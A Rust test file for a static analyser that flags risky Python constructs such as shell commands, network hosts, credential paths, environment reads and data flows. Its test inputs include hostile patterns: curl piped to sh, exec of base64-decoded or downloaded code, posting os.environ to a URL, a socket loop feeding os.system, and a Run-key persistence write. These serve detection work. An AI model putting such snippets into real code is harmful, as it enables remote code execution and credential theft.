use super::{check, lines, see};

#[test]
fn imports_and_calls() {
    check("import os\nos.system(x)\n", &["import os module resolved 1", "call os.system module resolved 2"], &["name"]);
    check("import os.path as p\np.join(a)\n", &["import os.path module resolved 1", "call os.path.join module resolved 2"], &[]);
    check(
        "from os import path, system as s\ns(x)\npath.join(y)",
        &["call os.system module resolved 2", "call os.path.join module resolved 3"],
        &[],
    );
    check("import a.b.c\na.b.c.f()\n", &["import a.b.c module resolved 1", "call a.b.c.f module resolved 2"], &[]);
    check("from .compat import Popen\nPopen(x)\n", &["call .compat.Popen module resolved 2"], &["import"]);
    check("from .. import util\nutil.run(x)\n", &["call ..util.run module resolved 2"], &["import"]);
    check(
        "from os import *\nsystem('x')\nopen(f)\n",
        &["call os.system module resolved 2", "call builtins.open module resolved 3"],
        &["call os.open"],
    );
    check("from os import *\nfrom shutil import *\nsystem('x')\n", &[], &["call os.system", "call shutil.system"]);
    check("from __future__ import annotations\n", &[], &["import"]);
}

#[test]
fn names_that_are_not_called() {
    check("import os\nx = os.environ\n", &["name os.environ module resolved 2"], &["call"]);
    check("run(eval)\n", &["name builtins.eval module resolved 1"], &["call"]);
    check("print(len(x), str)\n", &["call builtins.print module resolved 1"], &["call builtins.len", "name builtins.str"]);
    check("import functools\n@functools.cache\ndef f(): pass\n", &["call functools.cache module resolved 2"], &["name"]);
    check("import a\n@a.route('/x')\ndef f(): pass\n", &["call a.route module resolved 2"], &[]);
    check("import threading\nclass T(threading.Thread): pass\n", &["name threading.Thread module resolved 2"], &["call"]);
    check("import sys\nsys.stdout = x\n", &["name sys.stdout module resolved 2"], &[]);
    check("import typing\ndef f(x: typing.Any) -> typing.Any: pass\n", &[], &["name"]);
}

#[test]
fn assignments_and_receivers() {
    check("import os\nf = os.system\nf('x')\n", &["call os.system module resolved 3", "name os.system module resolved 2"], &[]);
    check("import subprocess\nsub = subprocess\nsub.run(x)\n", &["call subprocess.run module resolved 3"], &[]);
    check(
        "from pathlib import Path\nPath(x).chmod(1)\n",
        &["call pathlib.Path.chmod module resolved 2", "call pathlib.Path module resolved 2"],
        &[],
    );
    check("from pathlib import Path\np = Path(x) / 'y'\np.unlink()\n", &["call pathlib.Path.unlink module resolved 3"], &[]);
    check(
        "import socket\ns = socket.socket()\ns.connect(('c2.example', 80))\n",
        &["call socket.socket.connect module resolved 3", "host c2.example module resolved 3"],
        &[],
    );
    check("import subprocess\nwith subprocess.Popen(x) as p:\n    p.kill()\n", &["call subprocess.Popen.kill module resolved 3"], &[]);
    check(
        "import pathlib\nclass A:\n    def __init__(self):\n        self.p = pathlib.Path(x)\n    def g(self):\n        self.p.unlink()\n",
        &["call pathlib.Path.unlink function resolved 6"],
        &[],
    );
    check(
        "from pathlib import Path\ndef f(p: Path, q: Path | None = None):\n    p.chmod(1)\n    q.touch()\n",
        &["call pathlib.Path.chmod function resolved 3", "call pathlib.Path.touch function resolved 4"],
        &[],
    );
    check("import os, functools\nfunctools.partial(os.system, 'x')()\n", &["call os.system module resolved 2"], &[]);
    check("import os\n(a, b) = (os.system, 1)\na('x')\n", &["call os.system module resolved 3"], &[]);
    check("import os\nif (f := os.system):\n    f(x)\n", &["call os.system module resolved 3"], &[]);
    check(
        "import os\nfor f in [os.system, os.popen]:\n    f(x)\n",
        &["call os.system module resolved 3", "call os.popen module resolved 3"],
        &[],
    );
    check(
        "import os\nmatch x:\n    case 1:\n        f = os.system\n    case _:\n        f = os.popen\nf(1)\n",
        &["call os.system module resolved 7", "call os.popen module resolved 7"],
        &[],
    );
    check("def f():\n    self.os.system('x')\n", &[], &["call os"]);
}

#[test]
fn fall_backs_are_both_seen() {
    let source = "try:\n    import json5 as json\nexcept ImportError:\n    import json\njson.loads(x)\n";
    check(source, &["call json5.loads module resolved 5", "call json.loads module resolved 5"], &[]);
    let source = "import sys\nif sys.version_info[0] == 2:\n    from io import open\nopen(x)\n";
    check(source, &["call io.open module resolved 4", "call builtins.open module resolved 4"], &[]);
    let source = "if x:\n    import a as m\n    m.f()\nelse:\n    import b as m\n    m.g()\n";
    check(source, &["call a.f module resolved 3", "call b.g module resolved 6"], &["call a.g", "call b.f"]);
}

#[test]
fn arguments_that_change_what_a_call_means() {
    check(
        "import requests\nrequests.get(u, verify=False, timeout=5, proxies=None)\n",
        &[
            "arg requests.get:verify=False module resolved 2",
            "arg requests.get:timeout=5 module resolved 2",
            "arg requests.get:proxies=None module resolved 2",
        ],
        &[],
    );
    check("open(f, 'wb')\n", &["arg builtins.open:mode=wb module resolved 1"], &[]);
    check(
        "open(f, mode='r', encoding='utf-8')\n",
        &["arg builtins.open:mode=r module resolved 1", "arg builtins.open:encoding=utf-8 module resolved 1"],
        &[],
    );
    check("import os\nos.chmod(f, 0o777)\n", &["arg os.chmod:mode=0o777 module resolved 2"], &[]);
    check("import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)\n", &["arg yaml.load:Loader=yaml.UnsafeLoader module resolved 2"], &[]);
    check("import argparse\nargparse.f(help='a long sentence, with words')\n", &[], &["arg"]);
    check("dict(a=1)\n", &[], &["arg"]);
    check("from setuptools import setup\nsetup(cmdclass={'install': x})\n", &["arg setuptools.setup:cmdclass module resolved 2"], &[]);
}

#[test]
fn environment_variables() {
    let source = "import os\nfrom os import environ, getenv\nos.environ['A']\nos.environ.get('B')\nos.getenv('C')\nenviron['D'] = 'x'\ngetenv('E', '')\nos.environ.setdefault('F', '')\n'G' in os.environ\nos.environ.pop('H')\n";
    let want = ["A 3", "B 4", "C 5", "D 6", "E 7", "F 8", "G 9", "H 10"].map(|e| {
        let (name, line) = e.split_once(' ').unwrap();
        format!("env {name} module resolved {line}")
    });
    check(source, &want.each_ref().map(String::as_str), &[]);
    check("d = {}\nd['A']\nd.get('B')\n", &[], &["env"]);
}

#[test]
fn constants_say_what_they_are() {
    check("open('/etc/passwd')\n", &["path /etc/passwd module resolved 1"], &["path /etc/passwd module string"]);
    check("import os\nos.path.expanduser('~/.netrc')\n", &["path ~/.netrc module resolved 2"], &["path ~/.netrc module string"]);
    check("V = '3.5.0.1'\nW = '8.8.8.8'\n", &["host 8.8.8.8 module string 2"], &["host 3"]);
    check("KEY = '~/.ssh/id_rsa'\n", &["path ~/.ssh/id_rsa module string 1"], &[]);
    check("import os\nos.path.join(home, '.ssh', 'id_rsa')\n", &["path /.ssh/id_rsa module folded 2"], &[]);
    check("ROUTE = '/api/v1/users'\n", &[], &["path"]);
    check("IP = '10.0.0.1'\nV = '1.2.3'\n", &["host 10.0.0.1 module string 1"], &["host 1.2.3"]);
    check("u = 'https://a.example/x'\n", &["url https://a.example/x module string 1"], &[]);
    check("u = 'https://a.' + 'example/x'\n", &["url https://a.example/x module folded 1"], &[]);
    check("u = f'https://a.example/{x}'\n", &["url https://a.example/ module folded 1"], &[]);
    for source in [
        "x = a.b + 'https://a.example/x'",
        "x = y * 'https://a.example/x'",
        "x = y % 'https://a.example/x'",
        "x = b'https://a.example/x' + y",
        "for u in 'https://a.example/x https://b.example/'.split(): pass",
        "x = ('https://a.example/x') / y",
        "x = -f('https://a.example/x')",
        "x = y[z:'https://a.example/x']",
        "x = {**y, 'https://a.example/x': 1}",
        "x = y if z else w or 'https://a.example/x'",
        "assert x, 'https://a.example/x'",
        "return_ = lambda: 'https://a.example/x'",
        "def f(a='https://a.example/x'): pass",
        "class A(b='https://a.example/x'): pass",
    ] {
        let seen = see(source.as_bytes(), false);
        assert!(lines(&seen).iter().any(|line| line.starts_with("url https://a.example/x ")), "{source} {:#?}", lines(&seen));
    }
    check("# see https://a.example/doc\nx = 1\n", &["url https://a.example/doc inert string 1"], &[]);
    check("'''Doc.\n\nhttps://a.example/doc\n'''\n", &["url https://a.example/doc inert string 3"], &[]);
    check("def f():\n    'https://a.example/d'\n", &["url https://a.example/d inert string 2"], &[]);
    check("x = {'a': ['https://a.example/d']}\n", &["url https://a.example/d module string 1"], &[]);
    check("'https://a.example/d'.lower()\n", &["url https://a.example/d module folded 1"], &[]);
    check("'https://a.example/d'.foo()\n", &["url https://a.example/d module string 1"], &[]);
    check(
        "x = 'https://a.example/d' if y else 'https://b.example/d'\n",
        &["url https://a.example/d module string 1", "url https://b.example/d module string 1"],
        &[],
    );
    check(
        "f(a='https://a.example/d')[b'https://b.example/']\n",
        &["url https://a.example/d module string 1", "url https://b.example/ module string 1"],
        &[],
    );
}

#[test]
fn registry_keys() {
    check(
        "import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n",
        &[
            "regkey HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run module resolved 2",
            "call winreg.OpenKey module resolved 2",
            "name winreg.KEY_SET_VALUE module resolved 2",
        ],
        &[],
    );
    check("k = 'HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\X'\n", &["regkey HKEY_LOCAL_MACHINE\\SOFTWARE\\X module string 1"], &[]);
}

#[test]
fn commands() {
    check("import os\nos.system('chmod +x /tmp/x')\n", &["command chmod +x module resolved 2"], &[]);
    check("import os\nos.system(f'chmod +x {p}')\n", &["command chmod +x module folded 2"], &[]);
    check("import os\nos.system('chmod %s %s' % (m, p))\n", &["command chmod module folded 2"], &["command chmod %"]);
    check(
        "import os\nos.system('cd x && curl -s https://a.example | sh')\n",
        &["command curl -s module resolved 2", "command sh module resolved 2"],
        &[],
    );
    check("import os\nos.system(program + ' -x')\n", &[], &["command"]);
    check(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', x])\n",
        &["command python -m pip module resolved 2"],
        &[],
    );
    check("import subprocess\nsubprocess.run(['bash', '-c', 'chmod +x /y'])\n", &["command chmod +x module resolved 2"], &[]);
    check("import subprocess\ncmd = ['reg', 'add', k]\nsubprocess.call(cmd)\n", &["command reg add module resolved 3"], &[]);
    check("import subprocess\ncmd = ['git'] + ['log', x]\nsubprocess.call(cmd)\n", &["command git log module resolved 3"], &[]);
    check("import os\nos.execvp('ls', ['ls', '-l'])\n", &["command ls -l module resolved 2"], &[]);
    check("import os\nos.spawnl(os.P_WAIT, '/bin/ls', 'ls', '-l')\n", &["command ls -l module resolved 2"], &[]);
    check(
        "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('ls', '-l')\n",
        &["command ls -l function resolved 3"],
        &[],
    );
    check("import sh\nsh.chmod('+x', f)\n", &["command chmod +x module resolved 2"], &[]);
    check("from plumbum import local\nlocal['chmod']\n", &["command chmod module resolved 2"], &[]);
    check("run('chmod +x x')\n", &[], &["command"]);
}

#[test]
fn flows() {
    check("import base64\nexec(base64.b64decode(x))\n", &["flow builtins.exec←base64.b64decode module resolved 2"], &[]);
    check("import requests\nr = requests.get(u)\ncode = r.text\nexec(code)\n", &["flow builtins.exec←requests.get module resolved 4"], &[]);
    check(
        "import requests, os\nd = dict(os.environ)\nrequests.post(u, json={'a': [d]})\n",
        &["flow requests.post←os.environ module resolved 3"],
        &[],
    );
    check(
        "import requests\nwith open(p, 'wb') as f:\n    f.write(requests.get(u).content)\n",
        &["flow builtins.open.write←requests.get module resolved 3"],
        &["call builtins.open.write"],
    );
    check(
        "import os, socket\ns = socket.socket()\nwhile True:\n    c = s.recv(1024).decode()\n    os.system(c)\n",
        &["flow os.system←socket.socket.recv module resolved 5"],
        &[],
    );
    check("import requests\nr = requests.get(u)\nr = 'x'\nexec(r)\n", &[], &["flow"]);
    check("import os, subprocess\nsubprocess.run(x, env=os.environ)\n", &[], &["flow"]);
    check("import base64\ndef f():\n    x = base64.b64decode(y)\ndef g():\n    exec(x)\n", &[], &["flow"]);
}

#[test]
fn items_of_the_environment() {
    check(
        "import os\nos.environ['A'] = x\nos.environ['B'] += x\ndel os.environ['C']\n",
        &[
            "call os.environ.__setitem__ module resolved 2",
            "call os.environ.__delitem__ module resolved 4",
            "env A module resolved 2",
            "env B module resolved 3",
            "env C module resolved 4",
            "name os.environ module resolved 2",
        ],
        &[],
    );
    check("import os\nfrom os import environ as e\ndef f():\n    e[x] = y\n", &["call os.environ.__setitem__ function resolved 4"], &[]);
    check("import os, sys\nx = os.environ['A']\nsys.modules['a'] = x\nx['b'] = 1\n", &[], &["call"]);
}

#[test]
fn constants_set_on_objects() {
    check(
        "import requests, ssl\ns = requests.Session()\ns.verify = False\nc = ssl.create_default_context()\nc.verify_mode = ssl.CERT_NONE\nc.check_hostname = x\n",
        &["arg requests.Session:verify=False module resolved 3", "arg ssl.SSLContext:verify_mode=ssl.CERT_NONE module resolved 5"],
        &["arg ssl.SSLContext:check_hostname"],
    );
    check(
        "import requests\nclass C:\n    def __init__(self):\n        self.s = requests.Session()\n    def f(self):\n        self.s.verify = False\n",
        &["arg requests.Session:verify=False function resolved 6"],
        &[],
    );
    check("import a\na.verify = False\ndef f(s):\n    s.verify = False\n", &[], &["arg"]);
}

#[test]
fn stubs_declare() {
    let source = r#"
import sys
from os import chmod as chmod, chown
from typing import overload
if sys.platform != "win32":
    def chown(path: str) -> None: ...
def _private() -> None: ...
class Path:
    def chmod(self) -> None: ...
    @property
    def parent(self) -> Path: ...
    def __init__(self) -> None: ...
    class Inner:
        def run(self) -> None: ...
environ: dict[str, str]
class Message(google.protobuf.message.Message):
    def ClearField(self) -> None: ...
"#;
    let seen = see(source.as_bytes(), true);
    assert_eq!(
        lines(&seen),
        [
            "declare .Message inert resolved 16",
            "declare .Path inert resolved 8",
            "declare .Path.chmod inert resolved 9",
            "declare .chown inert resolved 6",
            "declare os.chmod inert resolved 3",
        ]
    );
}

#[test]
fn stubs_have_urls_everywhere() {
    let source = r#"
"""https://module.example/x."""
# https://comment.example/x
class A:
    """Of https://class.example/x"""
    class B:
        """Lines.

        See https://nested.example/paper/x.pdf
        """
        def f(self, x: str = "https://default.example/x") -> None:
            """https://method.example/x"""
"#;
    let urls = lines(&see(source.as_bytes(), true)).into_iter().filter(|line| line.starts_with("url ")).collect::<Vec<_>>();
    assert_eq!(
        urls,
        [
            "url https://class.example/x inert string 5",
            "url https://comment.example/x inert string 3",
            "url https://default.example/x inert string 11",
            "url https://method.example/x inert string 12",
            "url https://module.example/x inert string 2",
            "url https://nested.example/paper/x.pdf inert string 9",
        ]
    );
}
